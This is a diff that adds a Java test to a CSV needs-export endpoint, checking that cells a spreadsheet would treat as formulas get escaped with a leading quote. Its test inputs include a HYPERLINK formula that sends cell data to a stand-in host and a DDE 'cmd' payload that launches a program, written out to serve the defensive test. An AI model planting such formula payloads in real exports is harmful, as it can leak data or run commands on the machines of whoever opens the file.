@@ -80,6 +80,23 @@ class NeedExportResourceTest {
     }
 
     @Test
+    void shouldNeutraliseCellsASpreadsheetWouldRunAsFormulas() {
+        UUID planted = fixtures.openCycle("export formulas " + UUID.randomUUID(), LocalDate.now(),
+                Map.of("UNTOC", List.of("LBN")));
+        List<String> typed = List.of("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1",
+                "@SUM(1,2)");
+        fixtures.submit(planted, "LBN", "UNTOC", typed.stream().map(text -> new org.taplatform.events.survey.StatedNeed(
+                UUID.randomUUID(), "LEGAL.DRAFTING", null, null, List.of(), "MEDIUM", text, SharingConsent.PUBLIC))
+                .toArray(org.taplatform.events.survey.StatedNeed[]::new));
+        byte[] file = given().auth().oauth2(TestTokens.coordinator()).queryParam("cycleId", planted).when()
+                .get("/api/v1/needs/export.csv").then().statusCode(200).extract().asByteArray();
+        List<CsvRecord> rows = csv(file);
+        int description = rows.get(0).getFields().indexOf("description");
+        assertThat(rows.subList(1, rows.size())).extracting(r -> r.getField(description))
+                .containsExactlyInAnyOrderElementsOf(typed.stream().map(text -> "'" + text).toList());
+    }
+
+    @Test
     void shouldExportOnlyWhatTheReaderMaySee() {
         List<CsvRecord> rows = csv(export(TestTokens.donor("XM-DAC-41114"), "csv", Map.of()));
         int consent = rows.get(0).getFields().indexOf("consent");
